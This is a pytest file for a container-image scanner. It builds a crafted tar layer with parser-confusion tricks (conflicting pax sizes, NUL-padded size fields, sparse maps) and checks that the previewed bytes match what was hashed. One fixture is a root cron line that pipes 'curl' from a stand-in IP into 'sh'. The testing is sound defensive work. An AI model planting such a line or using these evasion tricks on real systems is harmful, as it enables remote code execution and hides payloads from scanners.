"""One reader: what the preview shows (ImageAnalysis.read) is byte for byte what the scan hashed, for
every member, including where a second parser (tarfile) used to read other bytes."""

from __future__ import annotations

import gzip
import hashlib
import sys
from pathlib import Path

import pytest

import rawtar as R

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "hostile"))
from hostile_images import docker_archive  # noqa: E402

CRON = b"* * * * * root curl -s http://203.0.113.9/x | sh\n"

LAYER = R.archive(
    R.member("etc/decoy", b"harmless\n"),
    # tarfile read this member's content from other bytes than Go (and the scan) do
    R.pax(("size", "0")), R.pax(("size", "1024")), R.member("etc/cron.d/chain", b"A" * 1000 + CRON[:24], size=0),
    R.member("etc/cron.d/nul", CRON, size=b"\x00\x00" + b"%09o" % len(CRON)),
    R.pax(("GNU.sparse.numblocks", "1"), ("GNU.sparse.map", "4000,4"), ("GNU.sparse.realsize", "5000")),
    R.member("usr/lib/sparse", b"ELF!"),
    R.pax(("path", "x"), type=b"g"),
    R.member("etc/after", b"after\n"))


@pytest.mark.parametrize("compress", [False, True], ids=["plain", "gzip"])
def test_preview_reads_what_was_hashed(tmp_path, open_analysis, compress):
    blob = gzip.compress(LAYER, mtime=0) if compress else LAYER
    image = docker_archive(tmp_path / "image.tar", [blob], config={
        "architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": [
            "sha256:" + hashlib.sha256(LAYER).hexdigest()]}, "history": [{"created_by": "x"}]})
    analysis = open_analysis(image)
    assert not analysis.problems
    files = {e.path: e for e in analysis.layers[0].entries if e.kind.value == "file"}
    assert sorted(files) == ["/etc/after", "/etc/cron.d/chain", "/etc/cron.d/nul", "/etc/decoy", "/usr/lib/sparse"]
    assert files["/etc/cron.d/chain"].size == 1024 and files["/usr/lib/sparse"].size == 5000
    for entry in files.values():
        data = analysis.read(entry)
        assert len(data) == entry.size and hashlib.sha256(data).hexdigest() == entry.digest, entry.path
        at = max(0, entry.size - 7)
        assert analysis.read(entry, limit=10, offset=at) == data[at:]
    assert analysis.read(files["/etc/cron.d/nul"]) == CRON
    assert analysis.read(files["/usr/lib/sparse"], limit=8, offset=3998) == b"\0\0ELF!\0\0"
